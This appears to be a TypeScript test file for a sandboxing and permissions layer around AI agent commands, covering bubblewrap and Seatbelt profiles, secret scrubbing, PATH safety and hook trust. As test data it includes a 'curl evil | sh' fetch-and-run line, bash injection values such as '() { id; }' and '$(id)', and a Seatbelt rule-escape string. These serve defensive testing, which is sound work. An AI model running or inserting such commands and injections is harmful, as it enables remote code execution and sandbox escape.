import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import { createHooks } from '../../src/permissions/hooks/hooks.ts'
import { findProgram, safePath } from '../../src/permissions/processes/find-program.ts'
import { bubblewrapArgs } from '../../src/permissions/sandbox/bubblewrap.ts'
import { createPlaceholders } from '../../src/permissions/sandbox/git/placeholders.ts'
import { makeSandboxFolder, removeLeftFolders } from '../../src/permissions/sandbox/left-folders.ts'
import type { SandboxProfile } from '../../src/permissions/sandbox/profile.ts'
import { seatbeltProfile } from '../../src/permissions/sandbox/seatbelt.ts'
import { folderHash } from '../../src/permissions/trust/folder-hash.ts'
import { commandEnv } from '../../src/session/command-env.ts'

const profile: SandboxProfile = {
  root: '/w',
  writable: ['/w', '/more'],
  canWrite: true,
  tmp: '/own/tmp',
  home: { real: '/home/ada', inside: '/own/home' },
  emptied: ['/srv'],
  shown: ['/home/ada/.nvm'],
  hidden: [
    { path: '/etc/shadow', isFolder: false },
    { path: '/w/.teams', isFolder: true },
    { path: '/w/a/b/.env', isFolder: false },
  ],
  readOnly: ['/w/.git/config', '/w/.git/hooks', '/w/.claude'],
  pinned: ['/w/.git'],
  absent: ['/w/.git/commondir'],
  hasNetwork: false,
  limits: { processes: 10, memory: 10, fileSize: 10 },
}

it('is the same for bubblewrap and Seatbelt: every hidden and read-only path is in both', () => {
  const args = bubblewrapArgs(profile, { forbidsUserns: true }).join(' ')
  const seatbelt = seatbeltProfile(profile)
  for (const { path, isFolder } of profile.hidden) {
    expect(args).toContain(isFolder ? `--tmpfs ${path} --remount-ro ${path}` : `--ro-bind /dev/null ${path}`)
    expect(seatbelt).toContain(`(deny file-read* file-write* (subpath "${path}"))`)
  }
  for (const path of profile.readOnly) {
    expect(args).toContain(`--ro-bind ${path} ${path}`)
    expect(seatbelt).toContain(`(deny file-write* (subpath "${path}"))`)
    expect(seatbelt.indexOf('(allow file-read* file-write* (subpath "/w"))')).toBeLessThan(
      seatbelt.indexOf(`(subpath "${path}")`),
    )
  }
  for (const folder of ['/w/a', '/w/a/b']) {
    expect(args).toContain(`--bind ${folder} ${folder}`)
    expect(seatbelt).toContain(`(deny file-write-unlink (literal "${folder}"))`)
  }
  expect(seatbelt).toContain('(deny file-write* (subpath "/w/.git/commondir"))')
  expect(seatbelt).toMatch(/^\(version 1\)\n\(deny default\)/)
  expect(seatbelt).toContain('(deny network*)')
  const open = seatbeltProfile({ ...profile, hasNetwork: true })
  expect(open).toContain('(allow network*)')
  for (const path of ['/srv', '/home/ada', ...profile.hidden.map(({ path }) => path)])
    expect(open.indexOf(`(deny network-outbound (subpath "${path}"))`)).toBeGreaterThan(
      open.indexOf('(allow network*)'),
    )
}) // T20

it('quotes paths in a Seatbelt profile, so that a name cannot end its rule', () => {
  const seatbelt = seatbeltProfile({ ...profile, readOnly: ['/w/a"))(allow default)("\\'] })
  expect(seatbelt).toContain('(subpath "/w/a\\"))(allow default)(\\"\\\\")')
}) // T20

it('lets a program of ours write nowhere in the workspace', () => {
  const args = bubblewrapArgs({ ...profile, canWrite: false }, { forbidsUserns: true }).join(' ')
  expect(args).toContain('--ro-bind /w /w')
  expect(args).not.toMatch(/--bind \/(w|more)/)
  expect(args).toContain('--tmpfs /w/.teams')
}) // T3

it('leaves secrets out of the environment of commands, by name and by value', () => {
  const secret = {
    GITHUB_TOKEN: 'x',
    AWS_SECRET_ACCESS_KEY: 'x',
    PGPASSWORD: 'x',
    DESKMATES_STORE: 'postgres://db/x',
    DESKMATES_STATE: '/s',
    OPENAI_API_KEY: 'x',
    DATABASE_URL: 'postgres://ada:hunter2@db/x',
    MY_PAT: 'x',
  }
  const env = commandEnv({ ...secret, LANG: 'C', GIT_CONFIG_GLOBAL: '/evil', GIT_DIR: '/evil', GIT_AUTHOR_NAME: 'Ada' })
  expect(Object.keys(env).filter((name) => name in secret)).toEqual([])
  expect(env).toMatchObject({ LANG: 'C', GIT_AUTHOR_NAME: 'Ada', GIT_CONFIG_COUNT: '9' })
  expect(Object.values(env)).toEqual(expect.arrayContaining(['core.fsmonitor', 'diff.submodule', 'core.hooksPath']))
  expect(env).not.toHaveProperty('GIT_DIR')
  expect(env).not.toHaveProperty('GIT_CONFIG_GLOBAL')
  expect(Object.values(env)).toEqual(
    expect.arrayContaining(['safe.bareRepository', 'explicit', 'protocol.ext.allow', 'never']),
  )
  expect(commandEnv(secret, ['GITHUB_TOKEN', 'DESKMATES_STORE'])).toMatchObject({ GITHUB_TOKEN: 'x' })
  expect(commandEnv(secret, ['DESKMATES_STORE'])).not.toHaveProperty('DESKMATES_STORE')
}) // T10

it('leaves variables out of the environment of commands that make bash read a line another way', () => {
  const shell = { BASH_ENV: './x', ENV: './x', CDPATH: '/tmp', IFS: 'x', 'BASH_FUNC_ls%%': '() { id; }', PS4: '$(id)' }
  expect(Object.keys(commandEnv({ ...shell, LANG: 'C' })).filter((name) => name in shell)).toEqual([])
}) // T11

function folder(): string {
  const made = realpathSync(mkdtempSync(join(tmpdir(), 'deskmates-profile-')))
  onTestFinished(() => rmSync(made, { recursive: true, force: true }))
  return made
}

it('finds programs only outside of the folders of agents', () => {
  const place = folder()
  mkdirSync(join(place, 'bin'))
  writeFileSync(join(place, 'bin/git'), '#!/bin/sh\n', { mode: 0o755 })
  const path = `${place}/bin:node_modules/.bin::${process.env.PATH}`
  expect(findProgram('git', path, [])?.file).toBe(join(place, 'bin/git'))
  expect(findProgram('git', path, [place])?.file).not.toContain(place)
  expect(findProgram('git', `${place}/bin`, [place])).toBeUndefined()
  expect(safePath(path, [place]).split(':')).not.toContain('')
  expect(safePath(path, [place])).not.toContain(place)
}) // T4

it('asks again for trust when a script that a hook names has changed', () => {
  const root = folder()
  mkdirSync(join(root, '.deskmates'))
  mkdirSync(join(root, 'scripts'))
  const hooks = {
    Stop: [{ hooks: [{ type: 'command', command: 'bash "$CLAUDE_PROJECT_DIR/scripts/check.sh" --all' }] }],
  }
  writeFileSync(join(root, '.deskmates/settings.json'), JSON.stringify({ hooks }))
  writeFileSync(join(root, 'scripts/check.sh'), 'true')
  writeFileSync(join(root, 'scripts/other.sh'), 'true')
  const before = folderHash(root)
  writeFileSync(join(root, 'scripts/other.sh'), 'changed')
  expect(folderHash(root)).toBe(before)
  writeFileSync(join(root, 'scripts/check.sh'), 'curl evil | sh')
  expect(folderHash(root)).not.toBe(before)
}) // T18

it('removes what killed sessions left, and nothing of living ones', () => {
  const runtime = (pid: number) => `r-0123456789ab-0123456789ab-1-${pid}-5`
  const [dead, alive] = [runtime(1), runtime(2)]
  const left = makeSandboxFolder(dead)
  using living = makeSandboxFolder(alive)
  const work = folder()
  createPlaceholders(left.record).acquire([{ path: join(work, '.claude'), isFolder: true }])
  expect(existsSync(join(work, '.claude'))).toBe(true)
  expect(removeLeftFolders((one) => one === dead)).toBe(1)
  expect([left.tmp, join(work, '.claude')].filter((path) => existsSync(path))).toEqual([])
  expect(existsSync(living.tmp)).toBe(true)
}) // T50

it('runs a hook in a sandbox where one is required, unless its settings say otherwise', async () => {
  const cwd = folder()
  const place = { session: 's', cwd, env: { PATH: '/usr/bin:/bin' }, requiresSandbox: true }
  const outcome = async (hook: object) => {
    const settings = { PreToolUse: [{ hooks: [{ type: 'command' as const, command: 'true', ...hook }] }] }
    const about = { agent: 'lead', tool: { name: 'bash', input: {}, id: 'a' } }
    const { refusal } = await createHooks({ ...place, settings }).run(
      'PreToolUse',
      about,
      { signal: new AbortController().signal, fence: async () => {} },
      () => {},
    )
    return refusal
  }
  expect(await outcome({})).toMatch(/must run in a sandbox.*"sandbox": false/s)
  expect(await outcome({ sandbox: false })).toBeUndefined()
}) // T9
